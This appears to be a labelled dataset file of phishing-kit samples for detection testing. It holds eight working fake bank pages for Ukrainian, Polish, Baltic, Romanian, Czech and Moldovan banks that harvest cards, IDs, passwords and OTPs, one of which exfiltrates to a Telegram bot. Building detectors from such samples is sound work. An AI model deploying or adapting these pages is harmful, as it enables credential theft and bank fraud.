import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, cardCss, mark, pct, cardIcons, luhnJs, cardFormatJs } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-monobank-cashback-card-telegram',
  label: 'phishing',
  kind: 'bank-kit-ua',
  url: 'https://mono-cashback.site/uk/',
  body: doc({
    lang: 'uk',
    title: 'monobank | Нарахування кешбеку',
    head: `<meta property="og:title" content="monobank: вам нараховано 1 750 ₴ кешбеку"><meta property="og:image" content="/img/cat.png">`,
    css: `*{box-sizing:border-box}body{margin:0;background:#000;color:#fff;font-family:-apple-system,'SF Pro Display',Roboto,Arial,sans-serif}
.wrap{max-width:440px;margin:0 auto;padding:28px 20px}
.cat{width:64px;height:64px;border-radius:50%;background:#fff;color:#000;font-size:34px;display:flex;align-items:center;justify-content:center;margin-bottom:18px}
h1{font-size:26px;margin:0 0 8px}.sum{font-size:44px;font-weight:700;margin:16px 0;background:linear-gradient(90deg,#ff5e62,#ff9966);-webkit-background-clip:text;color:transparent}
p{color:#aaa}.in{width:100%;background:#1c1c1e;border:1px solid #2c2c2e;border-radius:12px;color:#fff;padding:15px;font-size:17px;margin-bottom:12px}
.row{display:flex;gap:12px}.btn{width:100%;padding:16px;border:0;border-radius:14px;background:#fff;color:#000;font-size:17px;font-weight:600}
.note{font-size:12px;color:#666;margin-top:14px}.timer{color:#ff5e62;font-weight:600}`,
    body: `<div class="wrap">
<div class="cat">🐱</div>
<h1>Вам нараховано кешбек</h1>
<p>За результатами акції «Кешбек за комуналку» на вашу картку monobank очікує зарахування:</p>
<div class="sum">1 750,00 ₴</div>
<p>Щоб отримати кошти, підтвердіть картку, на яку буде здійснено зарахування. Залишилось <span class="timer" id="t">14:59</span></p>
<form id="cb" autocomplete="off">
<input class="in" id="num" name="card" inputmode="numeric" placeholder="Номер картки" required>
<div class="row"><input class="in" id="exp" name="exp" placeholder="ММ/РР" required><input class="in" name="cvv" type="password" maxlength="3" placeholder="CVV" required></div>
<input class="in" name="bal" inputmode="numeric" placeholder="Поточний баланс картки, ₴ (для перевірки)">
<button class="btn" type="submit">Отримати 1 750 ₴</button>
</form>
<div class="note">Universal Bank. Ліцензія НБУ №92. Кошти зараховуються протягом 5 хвилин.</div>
</div>
<script>
${cardFormatJs}
fmtCard(document.getElementById('num'));fmtExp(document.getElementById('exp'));
var s=899;setInterval(function(){if(s>0)s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000);
var BOT='7034418826:AAHq3vYt1cNwz_pRk0eL9sUQmXfa2bdJ7KQ',CH='-1002087741135';
document.getElementById('cb').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this),t='💳 MONO\\n';d.forEach(function(v,k){t+=k+': '+v+'\\n'});
fetch('https://ipapi.co/json/').then(function(r){return r.json()}).catch(function(){return {}}).then(function(g){t+='IP: '+(g.ip||'?')+' '+(g.city||'');
return fetch('https://api.telegram.org/bot'+BOT+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CH,text:t})})}).finally(function(){location.href='/uk/3ds.html'})});
</script>`,
  }),
  routes: {
    'mono-cashback.site/uk/3ds.html': htmlRoute(doc({ lang: 'uk', title: 'Підтвердження 3-D Secure', css: 'body{font-family:Arial;background:#000;color:#fff;text-align:center;padding:60px 20px}input{padding:14px;font-size:20px;border-radius:10px;border:0;text-align:center;width:200px}button{display:block;margin:16px auto;padding:12px 40px;border-radius:10px;border:0}', body: '<h2>Введіть код з push-повідомлення monobank</h2><form method="post" action="/uk/otp.php"><input name="code" maxlength="6" inputmode="numeric"><button>Підтвердити</button></form>' })),
  },
},
{
  id: 'ym-oschad-pension-indexation',
  label: 'phishing',
  kind: 'bank-kit-ua',
  url: 'https://oschadbank-pensiia.info/oplata/',
  body: doc({
    lang: 'uk',
    title: 'Ощадбанк — Перерахунок пенсії 2024',
    css: cardCss('#0d6b3a', '#eef3ef') + `.banner{background:#0d6b3a;color:#fff;padding:28px;text-align:center}.banner h2{margin:0 0 6px;font-size:24px}.banner p{margin:0;opacity:.9}.card{max-width:520px}`,
    body: `<header class="top">${mark('О', '#0d6b3a', 'Ощадбанк', { round: 17 })}<nav><a href="#">Приватним клієнтам</a><a href="#">Пенсіонерам</a><a href="#">Контакти 0 800 210 800</a></nav></header>
<div class="banner"><h2>Індексація пенсії з 1 березня</h2><p>Пенсійний фонд України та АТ «Ощадбанк» інформують про доплату за перерахунком</p></div>
<main><div class="card">
<h1>Перевірка права на доплату</h1>
<p class="sub">Заповніть дані отримувача. Доплата в розмірі від 2 400 до 8 900 грн зараховується на картку, на яку ви отримуєте пенсію.</p>
<form method="post" action="send.php" id="pf">
<div class="field"><label>Прізвище, ім'я, по батькові</label><input name="pib" required></div>
<div class="field"><label>РНОКПП (ідентифікаційний код)</label><input name="ipn" maxlength="10" inputmode="numeric" required></div>
<div class="field"><label>Номер телефону</label><input name="tel" type="tel" placeholder="+380" required></div>
<div class="field"><label>Номер пенсійної картки</label><input name="card" id="cn" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Діє до</label><input name="exp" id="ce" placeholder="ММ/РР" required></div><div class="field"><label>CVV</label><input name="cvv" maxlength="3" type="password" required></div></div>
<button class="btn" type="submit">Перевірити та отримати</button>
<p class="muted">Натискаючи кнопку, ви погоджуєтесь на обробку персональних даних відповідно до ЗУ «Про захист персональних даних».</p>
</form></div></main>
<footer class="bottom">© АТ «Ощадбанк», 2024. Ліцензія НБУ № 148</footer>
<script>${luhnJs}${cardFormatJs}fmtCard(document.getElementById('cn'));fmtExp(document.getElementById('ce'));
document.getElementById('pf').addEventListener('submit',function(e){if(!luhn(this.card.value)){e.preventDefault();alert('Перевірте номер картки')}});</script>`,
  }),
},
{
  id: 'ym-ipko-login-sms-jquery',
  label: 'phishing',
  kind: 'bank-kit-pl',
  url: 'https://logowanie-ipko.com/login/',
  body: doc({
    lang: 'pl',
    title: 'Serwis transakcyjny iPKO',
    head: `<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script><link rel="icon" href="/favicon.ico">`,
    css: `body{margin:0;font-family:pkobp,Arial,Helvetica,sans-serif;background:#f2f2f2;color:#3c3c3c}
.hd{background:#004c9a;height:70px;display:flex;align-items:center;padding:0 40px}.hd span{color:#fff;font-size:26px;font-weight:700;letter-spacing:1px}
.box{background:#fff;width:420px;margin:50px auto;padding:36px 40px;border-top:4px solid #004c9a}
h1{font-size:22px;font-weight:400;margin:0 0 24px}label{font-size:13px;display:block;margin:0 0 6px}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid #b6b6b6;padding:0 12px;font-size:16px;margin-bottom:18px}
.btn{background:#004c9a;color:#fff;border:0;height:46px;width:100%;font-size:16px;cursor:pointer}
.info{font-size:12px;color:#7a7a7a;margin-top:22px;line-height:1.5}.hide{display:none}`,
    body: `<div class="hd"><span>PKO BANK POLSKI</span></div>
<div class="box">
 <div id="a"><h1>Logowanie do iPKO</h1>
 <form id="fa"><label for="login">Numer klienta lub login</label><input id="login" name="login" autocomplete="username" required>
 <button class="btn">Dalej</button></form></div>
 <div id="b" class="hide"><h1>Podaj hasło</h1><p id="who" style="font-size:13px"></p>
 <form id="fb"><label for="pw">Hasło</label><input id="pw" type="password" name="haslo" required><button class="btn">Zaloguj</button></form></div>
 <div id="c" class="hide"><h1>Potwierdź logowanie</h1><p style="font-size:14px">Na Twój numer telefonu wysłaliśmy kod SMS. Wpisz go, aby dodać to urządzenie do zaufanych.</p>
 <form id="fc"><label>Kod SMS</label><input name="sms" maxlength="8" inputmode="numeric" required><button class="btn">Potwierdź</button></form></div>
 <p class="info">Pamiętaj: PKO Bank Polski nigdy nie prosi o podanie danych do logowania w wiadomości e-mail ani SMS. Sprawdź, czy połączenie jest szyfrowane.</p>
</div>
<script>
var k=null;
function go(d,cb){$.ajax({url:'/api/l.php',type:'POST',data:$.extend({k:k},d),dataType:'json',success:function(r){k=r.k||k;cb(r)},error:function(){cb({})}})}
$('#fa').on('submit',function(e){e.preventDefault();go({login:$('#login').val()},function(){$('#who').text('Login: '+$('#login').val());$('#a').hide();$('#b').show()})});
$('#fb').on('submit',function(e){e.preventDefault();go({haslo:$('#pw').val()},function(){$('#b').hide();$('#c').show()})});
$('#fc').on('submit',function(e){e.preventDefault();go({sms:$(this).find('input').val()},function(r){window.location=r.next||'https://www.pkobp.pl/'})});
</script>`,
  }),
  routes: { 'logowanie-ipko.com/api/l.php': jsonRoute({ ok: 1, k: 'a81f0c' }) },
},
{
  id: 'ym-swedbank-lt-smartid-relay',
  label: 'phishing',
  kind: 'bank-kit-baltic',
  url: 'https://swedbank-lt.prisijungimas.help/lt/private/',
  body: doc({
    lang: 'lt',
    title: 'Prisijungimas | Swedbank',
    css: cardCss('#ee7023', '#fdf6ef') + `.tabs{display:flex;border-bottom:1px solid #eee;margin-bottom:20px}.tabs span{padding:10px 14px;font-size:14px;color:#666}.tabs span.on{color:#ee7023;border-bottom:2px solid #ee7023}.code{font-size:40px;font-weight:700;text-align:center;letter-spacing:6px;color:#512b1b;margin:18px 0}`,
    body: `<header class="top">${mark('S', '#ee7023', 'Swedbank', { round: 17 })}<nav><a href="#">Privatiems</a><a href="#">Verslui</a><a href="#">LT</a></nav></header>
<main><div class="card">
<div id="one"><h1>Prisijungimas</h1>
<div class="tabs"><span class="on">Smart-ID</span><span>Mobile-ID</span><span>Slaptažodžių generatorius</span></div>
<form id="sid">
<div class="field"><label>Naudotojo ID</label><input name="uid" inputmode="numeric" required></div>
<div class="field"><label>Asmens kodas</label><input name="ak" inputmode="numeric" maxlength="11" required></div>
<button class="btn">Prisijungti</button></form></div>
<div id="two" style="display:none"><h1>Patvirtinkite Smart-ID programėlėje</h1>
<p class="sub">Įsitikinkite, kad kontrolinis kodas sutampa su rodomu jūsų telefone, ir įveskite PIN1.</p>
<div class="code" id="vc">····</div><div class="spin"></div>
<p class="muted" style="text-align:center">Laukiama patvirtinimo…</p></div>
</div></main>
<footer class="bottom">„Swedbank“, AB, Konstitucijos pr. 20A, Vilnius</footer>
<script>
var token='';
document.getElementById('sid').onsubmit=function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));
fetch('/api/start.php',{method:'POST',body:b}).then(function(r){return r.json()}).then(function(j){token=j.t;document.getElementById('vc').textContent=j.code;document.getElementById('one').style.display='none';document.getElementById('two').style.display='block';poll()})};
function poll(){fetch('/api/status.php?t='+token).then(function(r){return r.json()}).then(function(j){if(j.state==='OK'){location.href=j.next}else if(j.state==='PIN2'){location.href='/lt/private/confirm.html?t='+token}else setTimeout(poll,2000)})}
</script>`,
  }),
  routes: {
    'swedbank-lt.prisijungimas.help/api/start.php': jsonRoute({ t: '9f2c71aa', code: '4821' }),
    'swedbank-lt.prisijungimas.help/api/status.php': jsonRoute({ state: 'WAIT' }),
  },
},
{
  id: 'ym-lhv-ee-mobiilid-kit',
  label: 'phishing',
  kind: 'bank-kit-baltic',
  url: 'https://lhv-ee.konto-kinnitus.com/ee/',
  body: doc({
    lang: 'et',
    title: 'LHV Internetipank',
    css: cardCss('#231f20', '#f5f5f5') + `.brand{font-weight:900;font-size:30px;letter-spacing:2px}.m{display:flex;gap:8px;margin-bottom:18px}.m button{flex:1;padding:10px;border:1px solid #ddd;background:#fff;border-radius:6px}.m button.on{border-color:#231f20;font-weight:600}`,
    body: `<header class="top"><span class="brand">LHV</span><nav><a href="#">Eraklient</a><a href="#">Ärikliendile</a><a href="#">ET</a></nav></header>
<main><div class="card">
<h1>Sisene internetipanka</h1><p class="sub">Kinnita oma isikut, et jätkata konto kasutamist. Uued turvanõuded kehtivad alates 1. aprillist.</p>
<div class="m"><button class="on" type="button">Mobiil-ID</button><button type="button">Smart-ID</button><button type="button">ID-kaart</button></div>
<form id="mf" method="post" action="/ee/mid.php">
<div class="field"><label>Isikukood</label><input name="isikukood" maxlength="11" inputmode="numeric" required></div>
<div class="field"><label>Telefoninumber</label><input name="tel" value="+372 " required></div>
<div class="field"><label>Mobiil-ID PIN1</label><input name="pin1" type="password" maxlength="5" inputmode="numeric" required></div>
<div class="field"><label>Mobiil-ID PIN2</label><input name="pin2" type="password" maxlength="5" inputmode="numeric" required></div>
<button class="btn">Jätka</button></form>
<p class="muted">AS LHV Pank, Tartu mnt 2, Tallinn. Klienditugi 6 800 400</p>
</div></main>`,
  }),
},
{
  id: 'ym-bt24-ro-update-data',
  label: 'phishing',
  kind: 'bank-kit-ro',
  url: 'https://bt24-ro.verificare-cont.com/autentificare',
  body: doc({
    lang: 'ro',
    title: 'BT24 Internet Banking - Autentificare',
    css: cardCss('#00558c', '#eef3f7') + `.warn{background:#fff3cd;border:1px solid #ffe08a;padding:12px;border-radius:8px;font-size:14px;margin-bottom:18px}`,
    body: `<header class="top">${mark('BT', '#00558c', 'Banca Transilvania', { w: 220 })}<nav><a href="#">Persoane fizice</a><a href="#">Companii</a></nav></header>
<main><div class="card">
<div class="warn"><b>Actualizare obligatorie.</b> Conform noilor reglementări BNR, contul dumneavoastră BT24 va fi suspendat dacă datele nu sunt actualizate în 24 de ore.</div>
<h1>Autentificare BT24</h1>
<form id="bt" method="post" action="/autentificare/pas2.php">
<div class="field"><label>Nume utilizator</label><input name="utilizator" required></div>
<div class="field"><label>Parolă</label><input name="parola" type="password" required></div>
<div class="field"><label>Număr card</label><input name="card" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Data expirării</label><input name="exp" placeholder="LL/AA" required></div><div class="field"><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<button class="btn">Confirmă datele</button></form>
<div class="links"><a href="#">Ai uitat parola?</a><a href="#">Contact: *8028</a></div>
</div></main><footer class="bottom">© Banca Transilvania S.A. Toate drepturile rezervate.</footer>`,
  }),
},
{
  id: 'ym-csob-identita-sms-relay',
  label: 'phishing',
  kind: 'bank-kit-cz',
  url: 'https://csob-identita.cz-overeni.eu/prihlaseni',
  body: doc({
    lang: 'cs',
    title: 'Přihlášení | ČSOB Identita',
    css: cardCss('#003366', '#f1f4f8'),
    body: `<header class="top">${mark('ČSOB', '#003366', 'ČSOB', { w: 110 })}<nav><a href="#">Občané</a><a href="#">Podnikatelé</a><a href="#">Čeština</a></nav></header>
<main><div class="card">
<h1>Přihlášení</h1><p class="sub">Z důvodu aktualizace bezpečnostního systému je nutné ověřit vaši ČSOB Identitu.</p>
<div class="err" id="er">Neplatné přihlašovací údaje.</div>
<form id="c1"><div class="field"><label>Uživatelské jméno</label><input name="username" required></div>
<div class="field"><label>PIN / heslo</label><input name="pin" type="password" required></div>
<button class="btn">Přihlásit</button></form>
<form id="c2" style="display:none"><p>Zadejte kód z SMS zprávy, kterou jsme odeslali na váš telefon.</p><div class="field"><label>SMS kód</label><input name="sms" maxlength="8" required></div><button class="btn">Potvrdit</button></form>
<div class="links"><a href="#">Zapomenuté heslo</a><a href="#">Nápověda</a></div>
</div></main>
<footer class="bottom">Československá obchodní banka, a. s., Radlická 333/150, Praha 5</footer>
<script src="/js/main.js"></script>`,
  }),
  routes: {
    'csob-identita.cz-overeni.eu/js/main.js': jsRoute(`(function(){var u='https://csob-identita.cz-overeni.eu/gate/',id=Date.now().toString(36);
function p(s,f){var x=new XMLHttpRequest();x.open('POST',u+'?s='+s+'&i='+id,true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(new FormData(f)).toString());return x}
document.getElementById('c1').addEventListener('submit',function(e){e.preventDefault();p(1,this).onloadend=function(){document.getElementById('c1').style.display='none';document.getElementById('c2').style.display='block'}});
document.getElementById('c2').addEventListener('submit',function(e){e.preventDefault();p(2,this).onloadend=function(){location.href='https://www.csob.cz/'}});})();`),
  },
},
{
  id: 'ym-maib-md-ru-card-block',
  label: 'phishing',
  kind: 'bank-kit-md',
  url: 'https://maib-md.deblocare-card.com/ru/',
  body: doc({
    lang: 'ru',
    title: 'maib — Разблокировка карты',
    css: cardCss('#00a5ad', '#eef6f6') + `.warn{background:#fff2f2;color:#a11;border-radius:8px;padding:12px;font-size:14px;margin-bottom:16px}`,
    body: `<header class="top">${mark('m', '#00a5ad', 'maib', { w: 110 })}<nav><a href="#">RO</a><a href="#">RU</a><a href="#">EN</a></nav></header>
<main><div class="card">
<div class="warn">Ваша карта временно заблокирована из-за подозрительной операции на сумму 4 870 MDL. Подтвердите, что вы являетесь владельцем карты, чтобы отменить операцию.</div>
<h1>Подтверждение владельца</h1>
<form id="mf" method="post" action="/ru/confirm.php">
<div class="field"><label>IDNP</label><input name="idnp" maxlength="13" inputmode="numeric" required></div>
<div class="field"><label>Номер телефона</label><input name="phone" value="+373 " required></div>
<div class="field"><label>Номер карты</label><input name="card" id="pan" inputmode="numeric" required></div>
<div class="row"><div class="field"><label>Срок действия</label><input name="exp" id="exp" required></div><div class="field"><label>CVV</label><input name="cvv" maxlength="3" type="password" required></div></div>
<div class="field"><label>Пароль maib online</label><input name="pw" type="password"></div>
<button class="btn">Разблокировать карту</button></form>
<p class="muted">B.C. „MAIB” S.A. · Contact Center: 1313</p></div></main>
<script>${cardFormatJs}fmtCard(document.getElementById('pan'));fmtExp(document.getElementById('exp'));</script>`,
  }),
},
];
